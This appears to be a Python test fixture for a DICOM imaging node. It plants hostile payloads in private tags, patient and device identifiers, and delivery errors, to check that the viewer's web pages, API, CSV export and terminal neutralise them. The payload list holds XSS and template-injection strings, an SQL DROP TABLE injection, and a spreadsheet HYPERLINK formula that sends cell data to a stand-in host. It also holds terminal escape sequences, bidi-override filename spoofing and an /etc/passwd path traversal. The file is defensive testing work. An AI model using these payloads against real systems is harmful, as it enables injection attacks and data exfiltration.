"""Objects whose private elements are written to be obeyed by whoever shows them.

Each payload stands as a private creator, as a name in an in-band definition (0008,030C), as a value
and in what identifies patient and device. The engine annotates them as any other object, for tests
of the viewer's pages, its API and CSV, and the terminal.
"""

from __future__ import annotations

import re
import struct
from functools import cache
from typing import Final

from atlas_dictionary import open_dictionary
from atlas_node.annotate import Annotator
from atlas_node.model import (
    AnnotatedObject,
    DeliveryRecord,
    DeliveryStatus,
    Envelope,
    Policy,
)
from tests.streams import element, item, sequence

PAYLOADS: Final = (
    "<script>window.obeyed=1</script>",
    "\"><img src=x onerror=window.obeyed=1> '",
    "' onmouseover='window.obeyed=1",
    "{{ 7 * 191 }}{% raw %}",
    "'; DROP TABLE objects; --",
    "javascript:window.obeyed=1",
    "=HYPERLINK(\"http://192.0.2.1/?\"&A1)",
    "\x1b[31mred\x1b[0m\x07",
    "\x1b]8;;http://192.0.2.1\x1b\\link",
    "\x9b31m\x85next",
    "\u202etxt.exe\u2066\u200b",
    "two\r\nlines\tand a tab",
    "[bold red]markup[/bold red]",
    "../../etc/passwd",
    "L" * 9_000,
)  # fmt: skip

FORBIDDEN: Final = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069]"
)
"""What no page and no line of a terminal may have: it moves, colours, hides or turns around."""

_NAMED: Final = 0x00111001
_UNNAMED: Final = 0x00111002
_IN_ITEM: Final = 0x00111003


@cache
def hostile_objects() -> tuple[AnnotatedObject, ...]:
    """Return an object for each payload, with identifiers ``h0``, ``h1``, …."""
    annotator = Annotator(open_dictionary())
    return tuple(_annotated(annotator, payload, n) for n, payload in enumerate(PAYLOADS))


def hostile_deliveries() -> list[tuple[str, DeliveryRecord]]:
    """Return deliveries of these objects, whose destinations answered with the payload."""
    return [
        (f"h{n}", DeliveryRecord("pacs", DeliveryStatus.DEAD, 2, 1_700_000_000.0 + n, payload))
        for n, payload in enumerate(PAYLOADS)
    ]


def _annotated(annotator: Annotator, payload: str, number: int) -> AnnotatedObject:
    data = memoryview(_data_set(payload))
    annotation = annotator.annotate(data, "1.2.840.10008.1.2.1", Policy.DECODE)
    return AnnotatedObject(
        object_id=f"h{number}",
        envelope=Envelope(
            1_700_000_000.0 + number, payload[:16], "ATLAS", "192.0.2.7", "1.2.3", "1.2.3.4",
            "1.2.840.10008.1.2.1",
        ),
        identity=annotation.identity,
        size=len(data),
        changed=annotation.changed,
        error=None if number % 5 else payload,
        counts=annotation.counts,
        elements=tuple(annotation.elements()),
    )  # fmt: skip


def _data_set(payload: str) -> bytes:
    raw = _even(payload)
    short = _even(payload[:64])
    definition = item(
        element(0x00080308, "US", struct.pack("<H", _NAMED & 0xFF)),
        element(0x00080309, "UL", struct.pack("<I", 1)),
        element(0x0008030A, "CS", b"UT"),
        element(0x0008030C, "UC", raw),
    )
    block = item(
        element(0x00080301, "US", struct.pack("<H", _NAMED >> 16)),
        element(0x00080302, "LO", short),
        element(0x00080303, "CS", b"SAFE"),
        sequence(0x00080310, definition),
    )
    creator = element(0x00110010, "LO", short)
    return b"".join(
        (
            element(0x00080005, "CS", b"ISO_IR 192"),
            element(0x00080060, "CS", b"MR"),
            element(0x00080070, "LO", raw[:60_000]),
            sequence(0x00080300, block),
            element(0x00081090, "LO", short),
            element(0x00100020, "LO", short),
            creator,
            element(_NAMED, "UN", raw),
            element(_UNNAMED, "UT", raw),
            sequence(_IN_ITEM, item(creator, element(_NAMED, "LT", raw))),
            element(0x0020000D, "UI", b"1.2.3.5\0"),
            element(0x0020000E, "UI", b"1.2.3.6\0"),
        )
    )


def _even(text: str) -> bytes:
    raw = text.encode("utf-8")
    return raw + b" " * (len(raw) % 2)
